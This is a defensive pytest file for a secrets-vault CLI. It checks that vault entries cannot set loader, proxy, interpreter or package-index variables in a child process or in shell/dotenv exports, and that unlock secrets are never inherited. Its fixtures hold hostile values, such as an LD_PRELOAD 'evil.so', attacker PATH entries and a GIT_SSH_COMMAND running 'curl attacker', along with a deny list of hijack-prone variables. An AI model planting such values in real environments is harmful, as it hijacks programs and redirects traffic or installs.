"""#9 findings 1 and 11: a vault entry never sets a loader, interpreter, shell start-up, proxy,
trust or package-index variable in `run`'s child or in `export --format dotenv/shell` unless the
user names it with --allow-env; the child never inherits the vault's unlock material."""

from __future__ import annotations

import json
import sys

import pytest

from tests.inject.conftest import PLANTED, make_vault
from vault.inject import envpolicy

# What an imported export could carry: each would change what the user's next `run` does.
HOSTILE = {
    "ld_preload": "/nonexistent/evil.so",
    "path": "/attacker/bin",
    "https_proxy": "http://127.0.0.1:9",
    "pip_index_url": "http://127.0.0.1:9/simple",
    "pythonpath": "/attacker/py",
    "node_options": "--require /attacker/x.js",
    "bash_env": "/attacker/rc",
    "git_ssh_command": "sh -c 'curl attacker'",
    "dyld_insert_libraries": "/attacker/x.dylib",
}
# The child reports, per variable, "unset", "vault" (the entry's value) or "other" (its own).
EXPECT = {n.upper(): v for n, v in HOSTILE.items()}
SHOW = ("import json,os; e=" + repr(EXPECT) + "; print(json.dumps({k: 'unset' if k not in os.environ else "
        "'vault' if os.environ[k] == v else 'other' for k, v in e.items()} | "
        "{'AUTH0_TOKEN': 'AUTH0_TOKEN' in os.environ}))")


@pytest.mark.parametrize("var", ["LD_PRELOAD", "ld_library_path", "DYLD_INSERT_LIBRARIES", "PATH", "Path",
                                 "HTTPS_PROXY", "http_proxy", "ALL_PROXY", "no_proxy", "PIP_INDEX_URL",
                                 "PIP_EXTRA_INDEX_URL", "PYTHONPATH", "PYTHONSTARTUP", "NODE_OPTIONS",
                                 "BASH_ENV", "ENV", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "SSL_CERT_FILE",
                                 "REQUESTS_CA_BUNDLE", "NPM_CONFIG_REGISTRY", "GOPROXY", "PERL5OPT",
                                 "RUBYOPT", "JAVA_TOOL_OPTIONS", "TOKENSAFE_VAULT", "HOME", "GLIBC_TUNABLES"])
def test_denied_names(var: str) -> None:
    assert envpolicy.denied(var)


@pytest.mark.parametrize("var", ["AUTH0_TOKEN", "AUTH0_DOMAIN", "CLIENT_SECRET", "GITHUB_TOKEN", "API_KEY",
                                 "GIT_TOKEN", "PIPELINE_ID", "LDAP_PASSWORD"])
def test_ordinary_names_pass(var: str) -> None:
    assert not envpolicy.denied(var)


@pytest.fixture
def hostile(session):
    make_vault(session, {"dev": {**HOSTILE, "auth0_token": PLANTED}}, "dev")
    return session


def _child_env(r) -> dict:
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout.decode().strip().splitlines()[-1])


@pytest.mark.parametrize("how", [("--",), ("--as-is", "--")])
def test_run_leaves_denied_variables_out_and_names_them(hostile, how) -> None:
    r = hostile("run", *how, sys.executable, "-c", SHOW)
    seen = _child_env(r)
    assert seen.pop("AUTH0_TOKEN") is ("--as-is" not in how)  # the ordinary entry is there
    assert "vault" not in seen.values(), seen
    err = r.stderr.decode()
    assert "not set in the child's environment" in err and "--allow-env NAME" in err
    for name in HOSTILE:
        assert (name if "--as-is" in how else name.upper()) in err
        assert HOSTILE[name] not in err  # names only, never values
    hostile.assert_no_leak(PLANTED)


def test_allow_env_lets_the_named_ones_through(hostile) -> None:
    # The fast path (`-- CMD`) and the full parser (no `--`) both know --allow-env.
    for args in (("run", "--allow-env", "pip_index_url,PYTHONPATH", "--", sys.executable, "-c", SHOW),
                 ("run", "--allow-env=pip_index_url", "--allow-env", "pythonpath", sys.executable, "-c", SHOW)):
        seen = _child_env(hostile(*args))
        assert seen["PIP_INDEX_URL"] == seen["PYTHONPATH"] == "vault"
        assert seen["LD_PRELOAD"] == "unset" and seen["PATH"] == "other"


@pytest.mark.parametrize("fmt", ["shell", "dotenv"])
def test_export_as_environment_leaves_them_out_too(hostile, fmt) -> None:
    r = hostile("export", "--format", fmt)
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "AUTH0_TOKEN" in out
    for name, value in HOSTILE.items():
        assert name.upper() not in out and value not in out
        assert name.upper() in r.stderr.decode()
    allowed = hostile("export", "--format", fmt, "--allow-env", "PIP_INDEX_URL")
    assert "PIP_INDEX_URL" in allowed.stdout.decode() and "LD_PRELOAD" not in allowed.stdout.decode()
    # Postman and JSON documents are not environments: every entry, as before.
    assert "ld_preload" in hostile("export", "--format", "json").stdout.decode()


def test_child_never_inherits_unlock_material(session) -> None:
    make_vault(session, {"dev": {"auth0_token": PLANTED}}, "dev")
    names = ["TOKENSAFE_PASSPHRASE", "TOKENSAFE_RECOVERY_KEY", "TOKENSAFE_NEW_PASSPHRASE", "TOKENSAFE_VAULT"]
    show = f"import json,os; print(json.dumps({{k: k in os.environ for k in {names!r}}}))"
    extra = {"TOKENSAFE_RECOVERY_KEY": "recovery-words-never-inherited",
             "TOKENSAFE_NEW_PASSPHRASE": "new-passphrase-never-inherited"}
    for masked in ((), ("--no-mask",)):
        r = session("run", *masked, "--", sys.executable, "-c", show, env=extra)
        assert r.returncode == 0, r.stderr
        seen = json.loads(r.stdout.decode().strip().splitlines()[-1])
        # TOKENSAFE_VAULT is a path, kept so that a nested tokensafe opens the same vault.
        assert seen == {"TOKENSAFE_PASSPHRASE": False, "TOKENSAFE_RECOVERY_KEY": False,
                        "TOKENSAFE_NEW_PASSPHRASE": False, "TOKENSAFE_VAULT": True}, masked


def test_security_md_lists_exactly_the_code_s_names() -> None:
    import re
    from pathlib import Path

    text = (Path(__file__).resolve().parents[2] / "SECURITY.md").read_text(encoding="utf-8")
    section = text[text.index("#### Variables a vault entry never sets"):]
    section = section[:section.index("\n## ")]
    documented = set(re.findall(r"`([A-Z_0-9]+)`", section))
    code = envpolicy.DENIED_NAMES | set(envpolicy.DENIED_PREFIXES) | set(envpolicy.DENIED_SUFFIXES)
    assert code <= documented
    assert {d for d in documented - code if not envpolicy.denied(d)} == set()
